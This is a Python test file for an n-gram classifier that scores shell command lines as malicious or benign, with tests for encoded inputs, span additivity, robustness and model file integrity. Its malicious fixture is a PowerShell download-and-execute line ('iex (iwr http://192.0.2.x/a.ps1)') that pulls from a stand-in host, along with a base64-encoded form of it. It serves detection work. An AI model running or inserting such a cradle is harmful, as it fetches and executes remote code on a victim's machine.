from __future__ import annotations

import base64

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cmdclf.classify.grams import GRAMS_FILE, MOST_BYTES, GramModel, out_of_fold
from cmdclf.errors import ModelIntegrityError

BAD = "powershell -c iex (iwr http://192.0.2.{0}/a.ps1)"
GOOD = "powershell -c Get-Service spooler{0} | Restart-Service"


def encoded(text):
    return "powershell -enc " + base64.b64encode(text.encode("utf-16le")).decode()


@pytest.fixture(scope="module")
def model():
    lines = [BAD.format(i) for i in range(40)] + [GOOD.format(i) for i in range(40)]
    return GramModel().fit(pa.array(lines), np.repeat([1, 0], 40))


def test_unseen_lines_of_either_kind_lie_on_their_side_also_where_they_are_encoded(model):
    scores = model.decision_function(
        pa.array([BAD.format(77), GOOD.format(77), encoded("iex (iwr http://192.0.2.9/a.ps1)")])
    )
    assert scores[0] > 1
    assert scores[1] < -1
    assert scores[2] > scores[1] + 1


@given(st.lists(st.text(max_size=60), min_size=1, max_size=6))
@settings(max_examples=60, deadline=None)
def test_a_score_depends_on_its_line_alone_and_is_the_sum_of_its_parts(model, lines):
    together = model.decision_function(pa.array(lines, pa.string()))
    for line, score in zip(lines, together, strict=True):
        assert model.decision_function(pa.array([line]))[0] == score
        text, parts = model.spans(line)
        assert len(parts) == len(text)
        assert model.bias_ + parts.sum() == pytest.approx(score, abs=1e-9)


def test_hostile_lines_are_bounded(model):
    text = "a" * 1_000_000
    lines = pa.array(["", None, text, "\x00\x01", "\u202eabc \U0001f600", '"' * 5000])
    assert np.isfinite(model.decision_function(lines)).all()
    assert len(model.spans(text)[0]) <= MOST_BYTES
    assert model.decision_function(lines.slice(2, 1))[0] == model.decision_function(lines)[2]


def test_what_is_saved_scores_the_same_and_other_files_are_refused(model, tmp_path):
    model.save(tmp_path)
    lines = pa.array([BAD.format(3), GOOD.format(3)])
    assert (GramModel.load(tmp_path).decision_function(lines) == model.decision_function(lines)).all()
    whole = (tmp_path / GRAMS_FILE).read_bytes()
    for damaged in (b"PK no", b"", whole[:-100], whole[: len(whole) // 2]):
        (tmp_path / GRAMS_FILE).write_bytes(damaged)
        with pytest.raises(ModelIntegrityError, match="can't be read"):
            GramModel.load(tmp_path)
    np.savez(
        tmp_path / GRAMS_FILE,
        bias=0.0,
        version=99,
        **{f"{n}_{k}": np.zeros(4) for n in ("weights", "rarity") for k in ("bytes", "words")},
    )
    with pytest.raises(ModelIntegrityError, match="version 99"):
        GramModel.load(tmp_path)


def test_one_class_or_other_lengths_are_refused():
    with pytest.raises(ValueError, match="one class"):
        GramModel().fit(pa.array(["a", "b"]), [1, 1])
    with pytest.raises(ValueError, match="2 lines but 1 labels"):
        GramModel().fit(pa.array(["a", "b"]), [1])
    with pytest.raises(ValueError, match="not fitted"):
        GramModel().decision_function(pa.array(["a"]))


def test_out_of_fold_scores_come_from_models_without_the_fold():
    lines = pa.array([BAD.format(i) for i in range(20)] + [GOOD.format(i) for i in range(20)])
    y, fold = np.repeat([1, 0], 20), np.tile([0, 1], 20)
    scores = out_of_fold(lines, y, fold)
    kept = fold == 1
    other = GramModel().fit(lines.filter(pa.array(kept)), y[kept])
    assert (scores[~kept] == other.decision_function(lines.filter(pa.array(~kept)))).all()
